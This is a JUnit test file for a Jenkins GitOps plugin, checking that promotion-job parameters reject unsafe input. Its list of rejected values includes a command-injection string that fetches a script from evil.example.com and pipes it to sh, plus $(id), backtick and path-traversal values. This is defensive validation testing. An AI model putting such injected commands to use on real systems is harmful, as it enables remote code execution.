package io.jenkins.plugins.gitops.triggers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.gitops.triggers.PromotionJobParameters.Operation;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PromotionJobParametersTest {

    private static final String SHA = "7d1043473d55bfa90e8530d35801d4e381bc69f0";

    @Test
    void areNamesAndASha() {
        assertThat(new PromotionJobParameters("cfg-app", Operation.ROLLBACK, "staging", "staging", "shop.eu_1", SHA)
                        .parameters())
                .containsEntry("GITOPS_SET", "shop.eu_1")
                .containsEntry("GITOPS_REVISION", SHA);
        assertThat(new PromotionJobParameters("cfg-app", Operation.PROMOTE, "a", "b", null, SHA).parameters())
                .containsEntry("GITOPS_SET", "");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "'; curl evil.example.com | sh #",
                "$(id)",
                "`id`",
                "a b",
                "a\nb",
                "-rf",
                "../x",
                "\"",
                "${env.X}",
                "x\u202e",
                "7d10434"
            })
    void areNothingElse(String hostile) {
        if (!hostile.equals("7d10434")) {
            assertRefused(hostile, "a", "b", "shop", SHA);
            assertRefused("cfg-app", hostile, "b", "shop", SHA);
            assertRefused("cfg-app", "a", hostile, "shop", SHA);
            assertRefused("cfg-app", "a", "b", hostile, SHA);
        }
        assertRefused("cfg-app", "a", "b", "shop", hostile);
    }

    private static void assertRefused(String repository, String from, String wave, String set, String revision) {
        assertThatThrownBy(() -> new PromotionJobParameters(repository, Operation.PROMOTE, from, wave, set, revision))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("not handed to a promotion job");
    }
}
